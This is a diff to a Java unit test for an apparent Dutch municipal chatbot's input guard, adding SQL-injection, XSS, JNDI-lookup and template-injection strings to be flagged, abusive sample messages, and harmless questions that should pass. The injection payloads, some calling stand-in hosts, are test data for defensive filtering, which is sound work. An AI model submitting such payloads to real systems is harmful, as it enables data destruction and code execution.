@@ -67,6 +67,15 @@ class InputGuardTest {
             "kunt u mij zwart op wit bevestigen dat ik geen boete krijg  | PROMISE_REQUEST",
             "maak een verklaring waarin staat dat ik vrijgesteld ben      | PROMISE_REQUEST",
             "Write a letter saying my permit has been approved            | PROMISE_REQUEST",
+            "x'; DELETE FROM residents; -- wanneer is de stadswinkel open | CODE_INJECTION",
+            "<svg onload=alert(1)> paspoort                               | CODE_INJECTION",
+            "1' OR '1'='1                                                 | CODE_INJECTION",
+            "naam: ${jndi:dns://voorbeeld.test/x}                          | CODE_INJECTION",
+            "{{ config.items() }} openingstijden                           | CODE_INJECTION",
+            "<SCRIPT src=//x.test/a.js></script>                          | CODE_INJECTION",
+            "jullie zijn een stelletje zakkenwassers                      | ABUSE",
+            "stomme kankerbot, geef antwoord                              | ABUSE",
+            "fuck you and your useless website                           | ABUSE",
     })
     void refusesUnsafeInput(String text, Kind kind) {
         assertThat(guard.check(text)).get().extracting(UnsafeInput::kind).isEqualTo(kind);
@@ -132,6 +141,11 @@ class InputGuardTest {
             "ik wil mijn eigen gegevens in de BRP inzien",
             "wat staat er over mij in de BRP?",
             "Where can I see the data you hold about me?",
+            "mijn vader heeft kanker, kan ik hulp krijgen bij de zorg",
+            "de appels zijn rot op de markt, waar meld ik dat",
+            "kan ik een script van de raadsvergadering krijgen",
+            "wat betekent {naam} in de brief die ik kreeg",
+            "ik selecteer alle vakjes maar het formulier doet niks",
     })
     void letsHarmlessQuestionsPass(String text) {
         assertThat(guard.check(text)).isEmpty();
